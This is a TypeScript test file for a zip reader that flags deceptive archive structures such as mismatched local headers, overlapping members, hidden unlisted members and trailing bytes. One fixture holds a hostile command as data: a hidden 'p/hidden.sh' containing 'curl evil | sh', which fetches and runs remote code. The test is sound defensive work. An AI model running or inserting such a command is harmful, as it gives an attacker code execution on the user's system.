import { createHash } from 'node:crypto';
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import yazl from 'yazl';
import { CuckooError } from '../../src/errors.js';
import { readRelease, writeTemp } from '../helpers/archives.js';
import { rawZip, type RawMember } from '../helpers/zip-raw.js';

const blob = (s: string) => createHash('sha1').update(`blob ${Buffer.byteLength(s)}\0`).update(s).digest('hex');
let n = 0;
const read = async (bytes: Buffer) => (await readRelease(await writeTemp(`hostile-${n++}.zip`, bytes))).entries;
const problems = async (members: RawMember[]) => Object.fromEntries((await read(rawZip(members))).map((e) => [e.path, e.ambiguity]));

async function zipError(bytes: Buffer): Promise<CuckooError> {
  try {
    await read(bytes);
  } catch (err) {
    assert.instance(err, CuckooError);
    return err as CuckooError;
  }
  throw new assert.Assertion({ message: 'expected the read to fail', operator: 'rejects', expects: 'error', actual: 'ok' });
}

const text = 'int main(void) { return 0; }\n'.repeat(20);

test('an honest zip with data descriptors reads cleanly: sizes and CRC after the data agree', async () => {
  const entries = await read(rawZip([
    { name: 'p/a.c', data: text, deflate: true, descriptor: true },
    { name: 'p/b.c', data: 'b\n', descriptor: true },
    { name: 'p/c.c', data: text, deflate: true },
  ]));
  assert.equal(entries.map((e) => [e.path, e.blobId, e.ambiguity]), [
    ['p/a.c', blob(text), undefined],
    ['p/b.c', blob('b\n'), undefined],
    ['p/c.c', blob(text), undefined],
  ]);
});

test('a local header naming another file than the central directory marks the member', async () => {
  const found = await problems([
    { name: 'p/a.c', data: text, deflate: true },
    { name: 'p/b.c', localName: 'p/b.sh', data: 'b\n' },
  ]);
  assert.is(found['p/a.c'], undefined);
  assert.match(found['p/b.c']!, /^zip member p\/b\.c: its local header names it "p\/b\.sh"$/);
});

test('names that are not UTF-8 are compared byte for byte, though they read alike', async () => {
  // Both invalid bytes read as U+FFFD: only the bytes tell the two names apart.
  const found = await problems([
    { name: 'p/same', nameBytes: Buffer.from('p/\xff.c', 'latin1'), data: text },
    { name: 'p/differ', nameBytes: Buffer.from('p/\xfe.h', 'latin1'), localName: Buffer.from('p/\xfd.h', 'latin1'), data: text },
    { name: 'p/valid', nameBytes: Buffer.from('p/\ufffd.s'), localName: Buffer.from('p/\xff.s', 'latin1'), data: text },
  ]);
  assert.is(found['p/\ufffd.c'], undefined);
  assert.match(found['p/\ufffd.h']!, /its local header names it "p\/\ufffd\.h"/);
  assert.match(found['p/\ufffd.s']!, /its local header names it "p\/\ufffd\.s"/);
});

test('local header sizes or a data descriptor that contradict the central directory mark the member', async () => {
  const found = await problems([
    { name: 'p/a.c', data: text, localSize: 3 },
    { name: 'p/b.c', data: text, deflate: true, descriptor: { size: 7 } },
  ]);
  assert.match(found['p/a.c']!, /its local header gives 3 bytes/);
  assert.match(found['p/b.c']!, /its data descriptor gives 7 bytes/);
});

test('two directory entries sharing one member overlap: both are marked', async () => {
  const found = await problems([
    { name: 'p/a.c', data: text, deflate: true },
    { name: 'p/b.c', data: 'other\n', listed: false },
    { name: 'p/x.c', data: text, deflate: true, sharesWith: 'p/a.c' },
  ]);
  assert.match(found['p/a.c']!, /its bytes run into member "p\/x\.c"/);
  assert.match(found['p/x.c']!, /it starts inside member "p\/a\.c", so their bytes overlap/);
  assert.match(found['p/x.c']!, /its local header names it "p\/a\.c"/);
});

test('a member the central directory does not list is found between members', async () => {
  const found = await problems([
    { name: 'p/a.c', data: text, deflate: true },
    { name: 'p/hidden.sh', data: 'curl evil | sh\n', listed: false },
    { name: 'p/c.c', data: 'c\n' },
  ]);
  assert.is(found['p/a.c'], undefined);
  assert.match(found['p/c.c']!, /\d+ bytes before it belong to no member, and hold a local file header the central directory does not list/);
});

test('bytes after the last member and bytes after a deflate stream are marked', async () => {
  const found = await problems([
    { name: 'p/a.c', data: text, deflate: true, trailing: Buffer.from('PK\x03\x04hidden') },
    { name: 'p/z.c', data: 'z\n', listed: false },
  ]);
  assert.match(found['p/a.c']!, /10 bytes after the end of its deflate stream are hidden inside it/);
  assert.match(found['p/a.c']!, /bytes after it belong to no member, and hold a local file header/);
});

test('zip64: sizes, offsets and the end record from zip64 fields', async () => {
  const zip = new yazl.ZipFile();
  zip.addBuffer(Buffer.from(text), 'p/a.c', { mode: 0o100644, forceZip64Format: true, mtime: new Date(0) });
  zip.addBuffer(Buffer.from('b\n'), 'p/b.c', { mode: 0o100644, forceZip64Format: true, compress: false, mtime: new Date(0) });
  const chunks: Buffer[] = [];
  zip.outputStream.on('data', (c: Buffer) => chunks.push(c));
  const done = new Promise((ok) => zip.outputStream.on('end', ok));
  zip.end({ forceZip64Format: true, comment: 'c0ffee' });
  await done;
  const bytes = Buffer.concat(chunks);
  assert.ok(bytes.includes(Buffer.from([0x50, 0x4b, 0x06, 0x06])), 'has a zip64 end record');
  const { release, entries } = await readRelease(await writeTemp('zip64.zip', bytes));
  assert.equal(entries.map((e) => [e.path, e.blobId, e.ambiguity]), [
    ['p/a.c', blob(text), undefined],
    ['p/b.c', blob('b\n'), undefined],
  ]);
  assert.is(release.comment, 'c0ffee');
  assert.is(await release.sha256(), createHash('sha256').update(bytes).digest('hex'));
});

test('structural faults are one-line input errors', async () => {
  const good = rawZip([{ name: 'a', data: 'a' }, { name: 'b', data: 'b' }]);
  const end = good.length - 22;
  const miscounted = Buffer.from(good);
  miscounted.writeUInt16LE(3, end + 10);
  let err = await zipError(miscounted);
  assert.is(err.code, 'input');
  assert.match(err.message, /corrupt zip archive: the end record counts 3 entries but the central directory holds 2$/);
  const fake64 = Buffer.from(good);
  fake64.writeUInt32LE(0xffffffff, end + 16);
  err = await zipError(fake64);
  assert.match(err.message, /corrupt zip archive: the end record asks for zip64 but there is no zip64 locator$/);
  const truncated = rawZip([{ name: 'a', data: text, deflate: true, trailing: Buffer.alloc(0) }]);
  // Cut the deflate data short while the directory still claims all of it.
  const cut = Buffer.concat([truncated.subarray(0, 31 + 5), truncated.subarray(truncated.length - 22 - 47)]);
  err = await zipError(cut);
  assert.is(err.code, 'input');
  assert.not.match(err.message, /\n/);
});

test.run();
